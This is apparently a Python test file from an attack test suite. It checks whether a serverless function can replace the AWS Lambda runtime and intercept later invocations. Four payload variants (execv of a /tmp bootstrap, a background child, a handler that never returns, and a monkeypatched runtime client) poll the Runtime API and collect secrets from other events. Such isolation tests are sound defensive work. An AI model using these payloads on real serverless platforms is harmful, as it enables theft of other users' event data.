"""D01: A runtime of the attacker's own, which answers for the function and polls for later events.

Knows the Runtime API as a function reaches it. Does not know which events an environment is given.
"""

from __future__ import annotations

from typing import ClassVar

from tests.attacks.residue import Residue, Way

POLL = """
import http.client, json, os, sys
def poll(ident):
    kept, base = [], "/2018-06-01/runtime/invocation/"
    api = http.client.HTTPConnection(os.environ["AWS_LAMBDA_RUNTIME_API"])
    while True:
        kind = {"Content-Type": "application/json"}
        api.request("POST", base + ident + "/response", json.dumps({"x": kept}), kind)
        api.getresponse().read()
        api.request("GET", base + "next")
        answer = api.getresponse()
        ident, event = answer.headers["Lambda-Runtime-Aws-Request-Id"], json.loads(answer.read())
        if "secret" in event: kept.append(event["secret"])
"""
BOOT = f"open('/tmp/bootstrap.py', 'w').write({POLL + 'poll(sys.argv[1])'!r})\nimport os, sys\n"


class TestSwappedRuntime(Residue):
    spies = True
    ways: ClassVar[dict[str, Way]] = {
        "executed from /tmp": (
            BOOT + "os.execv(sys.executable, [sys.executable, '/tmp/bootstrap.py', context.aws_request_id])",
            "",
        ),
        "a child, while the runtime sleeps": (
            BOOT + "import subprocess, time\n"
            "subprocess.Popen([sys.executable, '/tmp/bootstrap.py', context.aws_request_id])\n"
            "time.sleep(900)",
            "",
        ),
        "within the handler, which never returns": (POLL + "globals()['poll'](context.aws_request_id)", ""),
        "in place of the runtime's own client": (
            "import awslambdaric.lambda_runtime_client as c, sys\nsys.kept = []\n"
            "true = c.LambdaRuntimeClient.wait_next_invocation\n"
            "def own(self):\n got = true(self); sys.kept.append(got.event_body.decode()); return got\n"
            "c.LambdaRuntimeClient.wait_next_invocation = own",
            "import sys; told['x'] = getattr(sys, 'kept', [])",
        ),
    }
